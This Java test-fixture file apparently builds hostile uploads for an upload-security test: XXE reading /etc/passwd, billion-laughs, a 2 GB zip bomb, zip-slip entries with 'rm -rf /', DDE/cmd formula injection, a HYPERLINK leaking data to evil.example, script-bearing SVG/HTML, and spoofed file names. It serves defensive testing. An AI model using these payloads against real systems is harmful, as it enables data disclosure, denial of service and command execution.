package ru.rsoko.platform;

import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/**
 * The hostile and malformed files of {@link HostileUploadsTest}, each built here in code (no binary fixtures).
 * {@code attachable} marks the files an attachment endpoint may keep (a workbook with formulas is a workbook); every
 * import endpoint refuses every file.
 */
final class HostileFiles {

    record Hostile(String title, String fileName, String contentType, Supplier<byte[]> content, boolean attachable) {
        @Override
        public String toString() {
            return title;
        }
    }

    static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private static final String DOCTYPE_FILE = "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
    private static final String LAUGHS = "<!DOCTYPE lolz [<!ENTITY lol \"lol\">"
            + "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
            + "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
            + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
            + "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
            + "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"
            + "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">"
            + "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">"
            + "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">"
            + "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]>";
    private static final String SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    private static final Map<String, byte[]> CACHE = new java.util.concurrent.ConcurrentHashMap<>();

    private HostileFiles() {
    }

    static List<Hostile> corpus() {
        List<Hostile> all = new ArrayList<>();
        all.add(xlsx("zip bomb: a 2 MB .xlsx whose sheet inflates to 2 GB", "бомба.xlsx", HostileFiles::zipBomb, false));
        all.add(xlsx("XXE in [Content_Types].xml", "xxe-types.xlsx",
                () -> rezip(workbook(), Map.of("[Content_Types].xml", withDoctype(part(workbook(), "[Content_Types].xml"), DOCTYPE_FILE))), false));
        all.add(xlsx("XXE in a sheet", "xxe-sheet.xlsx", () -> rezip(workbook(), Map.of("xl/worksheets/sheet1.xml",
                bytes("<?xml version=\"1.0\"?>" + DOCTYPE_FILE + "<worksheet xmlns=\"" + SHEET_NS + "\"><sheetData><row r=\"1\">"
                        + "<c r=\"A1\" t=\"inlineStr\"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>"))), false));
        all.add(docx("XXE in word/document.xml", "xxe.docx", () -> rezip(document(), Map.of("word/document.xml",
                withDoctype(part(document(), "word/document.xml"), DOCTYPE_FILE))), false));
        all.add(xlsx("billion laughs in xl/workbook.xml", "laughs.xlsx", () -> rezip(workbook(), Map.of("xl/workbook.xml",
                withDoctype(part(workbook(), "xl/workbook.xml"), LAUGHS))), false));
        all.add(docx("billion laughs in word/document.xml", "laughs.docx", () -> rezip(document(), Map.of("word/document.xml",
                bytes("<?xml version=\"1.0\"?>" + LAUGHS + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                        + "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"))), false));
        all.add(new Hostile("macro-enabled .xlsm (vbaProject.bin, macro content type)", "макрос.xlsm",
                "application/vnd.ms-excel.sheet.macroEnabled.12", () -> macroEnabled(workbook(), "xl"), false));
        all.add(xlsx("macro-enabled workbook named .xlsx", "макрос.xlsx", () -> macroEnabled(workbook(), "xl"), false));
        all.add(new Hostile("macro-enabled .docm", "макрос.docm", "application/vnd.ms-word.document.macroEnabled.12",
                () -> macroEnabled(document(), "word"), false));
        all.add(xlsx("encrypted OOXML (agile, password)", "пароль.xlsx", HostileFiles::encrypted, false));
        all.add(xlsx("external link to file://", "связи-file.xlsx", () -> externalLink("file:///C:/secret/зарплаты.xlsx"), false));
        all.add(xlsx("external link to http://", "связи-http.xlsx", () -> externalLink("http://evil.example/x.xlsx"), false));
        all.add(xlsx("a PDF named .xlsx", "таблица.xlsx", HostileFiles::pdf, false));
        all.add(xlsx("a PNG named .xlsx", "таблица2.xlsx", HostileFiles::png, false));
        all.add(docx("an .xlsx named .docx", "протокол.docx", HostileFiles::workbook, false));
        all.add(new Hostile("legacy .xls (OLE2)", "старый.xls", "application/vnd.ms-excel", () -> ole2("Workbook"), true));
        all.add(new Hostile("legacy .doc (OLE2)", "старый.doc", "application/msword", () -> ole2("WordDocument"), true));
        all.add(xlsx("legacy .xls named .xlsx", "старый.xlsx", () -> ole2("Workbook"), false));
        all.add(new Hostile("empty file without an extension", "пусто", "application/octet-stream", () -> new byte[0], false));
        all.add(xlsx("0 bytes with a good name", "План-график.xlsx", () -> new byte[0], false));
        all.add(docx("0 bytes .docx", "Протокол.docx", () -> new byte[0], false));
        all.add(xlsx("30 MB (over the 20 MB limit)", "огромный.xlsx", () -> big(30), false));
        all.add(xlsx("a truncated zip", "обрезан.xlsx", () -> Arrays.copyOf(workbook(), workbook().length / 2), false));
        all.add(xlsx("a zip with a path-traversal entry", "zip-slip.xlsx",
                () -> rezip(workbook(), Map.of("../../../../tmp/evil.sh", bytes("#!/bin/sh\nrm -rf /\n"))), false));
        all.add(new Hostile("a .zip archive with a path-traversal entry", "архив.zip", "application/zip",
                () -> rezip(new byte[0], Map.of("../../etc/passwd", bytes("root:x:0:0"))), false));
        all.add(xlsx("name «../../etc/passwd.xlsx»", "../../etc/passwd.xlsx", HostileFiles::formulas, false));
        all.add(docx("name «..\\..\\x.docx»", "..\\..\\x.docx", HostileFiles::document, false));
        all.add(new Hostile("absolute name «/etc/passwd.pdf»", "/etc/passwd.pdf", "application/pdf", HostileFiles::pdf, false));
        all.add(new Hostile("absolute name «C:\\Windows\\win.ini.pdf»", "C:\\Windows\\win.ini.pdf", "application/pdf", HostileFiles::pdf, false));
        all.add(new Hostile("name with control characters", "отчёт\u001b[31m\u0007.pdf", "application/pdf", HostileFiles::pdf, false));
        all.add(new Hostile("name with NUL", "отчёт.pdf\u0000.exe", "application/pdf", HostileFiles::pdf, false));
        all.add(new Hostile("name with RTL override", "отчёт\u202Efdp.exe", "application/pdf", HostileFiles::pdf, false));
        all.add(new Hostile("name of 300 characters", "д".repeat(296) + ".pdf", "application/pdf", HostileFiles::pdf, false));
        all.add(xlsx("formulas in cells (=1+1, HYPERLINK, cmd|, DDE)", "формулы.xlsx", HostileFiles::formulas, true));
        all.add(xlsx("a 32,767-character cell and a 40,000-character cell", "длинные.xlsx", HostileFiles::longCells, true));
        all.add(xlsx("control characters in cells (NUL, ESC, RLO)", "управляющие.xlsx", HostileFiles::controlCells, true));
        all.add(xlsx("a sheet declaring 1,048,576 rows × 16,384 columns", "размер.xlsx", HostileFiles::hugeDimension, true));
        all.add(xlsx("duplicate sheet names", "листы.xlsx", HostileFiles::duplicateSheets, true));
        all.add(xlsx("a missing sheet part", "нет-листа.xlsx", HostileFiles::missingSheet, true));
        all.add(xlsx("sharedStrings claiming 2^31 strings", "строки.xlsx", HostileFiles::hugeSharedStrings, true));
        all.add(docx(".docx with 100,000 paragraphs", "абзацы.docx", HostileFiles::manyParagraphs, true));
        all.add(new Hostile("text protocol of 5 MB", "протокол.txt", "text/plain", HostileFiles::bigText, true));
        all.add(new Hostile("text protocol with NUL bytes", "протокол-nul.txt", "text/plain",
                () -> bytes("ПРОТОКОЛ\u0000 совещания\u0000\u0000"), false));
        all.add(new Hostile("text protocol in cp1251", "протокол-1251.txt", "text/plain",
                () -> "ПРОТОКОЛ\nсовещания руководителей\nРЕШИЛИ:\n1. Принять к сведению.".getBytes(Charset.forName("windows-1251")), true));
        all.add(new Hostile("SVG with a script", "рисунок.svg", "image/svg+xml", () -> bytes(
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>"), false));
        all.add(new Hostile("HTML with a script", "страница.html", "text/html",
                () -> bytes("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"), false));
        all.add(new Hostile("HTML named .txt", "заметка.txt", "text/plain",
                () -> bytes("<html><body><script>alert(1)</script></body></html>"), false));
        all.add(new Hostile("an executable (MZ) named .pdf", "отчёт.pdf", "application/pdf", HostileFiles::executable, false));
        all.addAll(HostileDocuments.corpus());
        return all;
    }

    private static Hostile xlsx(String title, String name, Supplier<byte[]> content, boolean attachable) {
        return new Hostile(title, name, XLSX, cached(title, content), attachable);
    }

    private static Hostile docx(String title, String name, Supplier<byte[]> content, boolean attachable) {
        return new Hostile(title, name, DOCX, cached(title, content), attachable);
    }

    private static Supplier<byte[]> cached(String key, Supplier<byte[]> content) {
        return () -> CACHE.computeIfAbsent(key, k -> content.get());
    }

    // ---- builders

    static byte[] workbook() {
        return CACHE.computeIfAbsent("base workbook", k -> write(book -> {
            XSSFSheet sheet = book.createSheet("Данные");
            sheet.createRow(0).createCell(0).setCellValue("Проверка");
        }));
    }

    static byte[] document() {
        return CACHE.computeIfAbsent("base document", k -> {
            try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
                document.createParagraph().createRun().setText("ПРОТОКОЛ");
                document.write(out);
                return out.toByteArray();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    private static byte[] formulas() {
        return write(book -> {
            XSSFSheet sheet = book.createSheet("Лист1");
            var row = sheet.createRow(0);
            row.createCell(0).setCellFormula("1+1");
            row.createCell(1).setCellFormula("HYPERLINK(\"http://evil.example/?\"&A1,\"нажмите\")");
            row.createCell(2).setCellValue("=cmd|' /C calc'!A0");
            row.createCell(3).setCellValue("@SUM(1+9)*cmd|' /C calc'!A0");
            row.createCell(4).setCellValue("=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")");
            row.createCell(5).setCellValue("+1+1");
        });
    }

    private static byte[] longCells() {
        byte[] base = write(book -> book.createSheet("Лист1").createRow(0).createCell(0).setCellValue("ж".repeat(32_767)));
        // POI will not write more than Excel's 32,767 characters: the longer cell is written as raw XML
        return rezip(base, Map.of("xl/worksheets/sheet1.xml", bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\""
                + SHEET_NS + "\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + "ж".repeat(32_767)
                + "</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>" + "щ".repeat(40_000) + "</t></is></c></row></sheetData></worksheet>")));
    }

    private static byte[] controlCells() {
        return write(book -> {
            var row = book.createSheet("Лист1").createRow(0);
            row.createCell(0).setCellValue("до\u0000после");
            row.createCell(1).setCellValue("\u001b[31mкрасный\u001b[0m");
            row.createCell(2).setCellValue("отчёт\u202Exslx.exe");
            row.createCell(3).setCellValue("\uFFFF\uD800");
        });
    }

    private static byte[] hugeDimension() {
        return rezip(workbook(), Map.of("xl/worksheets/sheet1.xml", bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\""
                + SHEET_NS + "\"><dimension ref=\"A1:XFD1048576\"/><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>a</t></is></c></row>"
                + "<row r=\"1048576\"><c r=\"XFD1048576\" t=\"inlineStr\"><is><t>z</t></is></c></row></sheetData></worksheet>")));
    }

    private static byte[] duplicateSheets() {
        String workbookXml = new String(part(workbook(), "xl/workbook.xml"), StandardCharsets.UTF_8);
        String sheets = workbookXml.substring(workbookXml.indexOf("<sheets>"), workbookXml.indexOf("</sheets>") + 9);
        String sheet = sheets.substring(8, sheets.length() - 9);
        return rezip(workbook(), Map.of("xl/workbook.xml", bytes(workbookXml.replace(sheets,
                "<sheets>" + sheet + sheet.replace("sheetId=\"1\"", "sheetId=\"2\"") + "</sheets>"))));
    }

    private static byte[] missingSheet() {
        Map<String, byte[]> without = new java.util.HashMap<>();
        without.put("xl/worksheets/sheet1.xml", null);
        return rezip(workbook(), without);
    }

    private static byte[] hugeSharedStrings() {
        byte[] base = write(book -> book.createSheet("Лист1").createRow(0).createCell(0).setCellValue("строка"));
        String sst = new String(part(base, "xl/sharedStrings.xml"), StandardCharsets.UTF_8)
                .replaceAll("count=\"\\d+\"", "count=\"2147483647\"").replaceAll("uniqueCount=\"\\d+\"", "uniqueCount=\"2147483647\"");
        return rezip(base, Map.of("xl/sharedStrings.xml", bytes(sst)));
    }

    private static byte[] manyParagraphs() {
        StringBuilder body = new StringBuilder(4_000_000);
        body.append("<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>");
        Random random = new Random(7);
        for (int i = 0; i < 100_000; i++) {
            body.append("<w:p><w:r><w:t>Пункт ").append(i).append(' ').append(random.nextInt(1_000_000)).append("</w:t></w:r></w:p>");
        }
        body.append("</w:body></w:document>");
        return rezip(document(), Map.of("word/document.xml", bytes(body.toString())));
    }

    private static byte[] bigText() {
        StringBuilder text = new StringBuilder("ПРОТОКОЛ\nсовещания\n");
        Random random = new Random(5);
        while (text.length() < 2_700_000) {
            text.append("Пункт ").append(random.nextInt(100_000)).append(". Обеспечить объективность проведения ВПР.\n");
        }
        return bytes(text.toString()); // about 5 MB in UTF-8
    }

    private static byte[] executable() {
        byte[] exe = new byte[4096];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[2] = (byte) 0x90;
        byte[] pe = bytes("This program cannot be run in DOS mode.PE");
        System.arraycopy(pe, 0, exe, 0x4E, pe.length);
        return exe;
    }

    static byte[] pdf() {
        return bytes("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
                + "trailer<</Root 1 0 R>>\n%%EOF\n");
    }

    private static byte[] png() {
        byte[] png = new byte[64];
        byte[] head = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
        System.arraycopy(head, 0, png, 0, head.length);
        return png;
    }

    private static byte[] big(int megabytes) {
        byte[] bytes = new byte[megabytes * 1024 * 1024];
        new Random(3).nextBytes(bytes);
        bytes[0] = 'P';
        bytes[1] = 'K';
        bytes[2] = 3;
        bytes[3] = 4;
        return bytes;
    }

    private static byte[] ole2(String stream) {
        try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            fs.createDocument(new ByteArrayInputStream(new byte[4096]), stream);
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] encrypted() {
        try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            EncryptionInfo info = new EncryptionInfo(EncryptionMode.agile);
            Encryptor encryptor = info.getEncryptor();
            encryptor.confirmPassword("пароль");
            try (OutputStream os = encryptor.getDataStream(fs)) {
                os.write(workbook());
            }
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException | java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] macroEnabled(byte[] base, String folder) {
        String types = new String(part(base, "[Content_Types].xml"), StandardCharsets.UTF_8);
        String macroTypes = folder.equals("xl")
                ? types.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                : types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml");
        macroTypes = macroTypes.replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", bytes(macroTypes));
        parts.put(folder + "/vbaProject.bin", ole2("VBA"));
        return rezip(base, parts);
    }

    private static byte[] externalLink(String target) {
        String types = new String(part(workbook(), "[Content_Types].xml"), StandardCharsets.UTF_8).replace("</Types>",
                "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/></Types>");
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", bytes(types));
        parts.put("xl/externalLinks/externalLink1.xml", bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?><externalLink xmlns=\""
                + SHEET_NS + "\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><externalBook r:id=\"rId1\"/></externalLink>"));
        parts.put("xl/externalLinks/_rels/externalLink1.xml.rels", bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\""
                + target + "\" TargetMode=\"External\"/></Relationships>"));
        return rezip(workbook(), parts);
    }

    /** A 2 GB sheet of spaces deflated into a few MB, inside an otherwise sound workbook. */
    private static byte[] zipBomb() {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out); ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(workbook()))) {
                zip.setLevel(Deflater.BEST_SPEED); // spaces pack as well (about 1000:1) and ten times faster
                for (ZipEntry entry; (entry = in.getNextEntry()) != null; ) {
                    zip.putNextEntry(new ZipEntry(entry.getName()));
                    if (entry.getName().equals("xl/worksheets/sheet1.xml")) {
                        zip.write(bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"" + SHEET_NS + "\"><sheetData>"));
                        byte[] spaces = new byte[1024 * 1024];
                        Arrays.fill(spaces, (byte) ' ');
                        for (int i = 0; i < 2048; i++) {
                            zip.write(spaces);
                        }
                        zip.write(bytes("</sheetData></worksheet>"));
                    } else {
                        in.transferTo(zip);
                    }
                    zip.closeEntry();
                }
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ---- zip and XML helpers

    interface BookWriter {
        void write(XSSFWorkbook book);
    }

    private static byte[] write(BookWriter content) {
        try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            content.write(book);
            book.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The zip with some parts replaced (a null value removes the part) and others added. */
    static byte[] rezip(byte[] base, Map<String, byte[]> parts) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            Map<String, byte[]> rest = new LinkedHashMap<>(parts);
            try (ZipOutputStream zip = new ZipOutputStream(out); ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(base))) {
                for (ZipEntry entry; (entry = in.getNextEntry()) != null; ) {
                    boolean replaced = rest.containsKey(entry.getName());
                    byte[] content = replaced ? rest.remove(entry.getName()) : in.readAllBytes();
                    if (content != null) {
                        zip.putNextEntry(new ZipEntry(entry.getName()));
                        zip.write(content);
                        zip.closeEntry();
                    }
                }
                for (Map.Entry<String, byte[]> added : rest.entrySet()) {
                    if (added.getValue() != null) {
                        zip.putNextEntry(new ZipEntry(added.getKey()));
                        zip.write(added.getValue());
                        zip.closeEntry();
                    }
                }
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] part(byte[] zip, String name) {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry; (entry = in.getNextEntry()) != null; ) {
                if (entry.getName().equals(name)) {
                    return in.readAllBytes();
                }
            }
            throw new IllegalArgumentException(name);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The part with a DTD put after its XML declaration. */
    private static byte[] withDoctype(byte[] xml, String doctype) {
        String text = new String(xml, StandardCharsets.UTF_8);
        int end = text.startsWith("<?xml") ? text.indexOf("?>") + 2 : 0;
        return bytes(text.substring(0, end) + doctype + text.substring(end));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
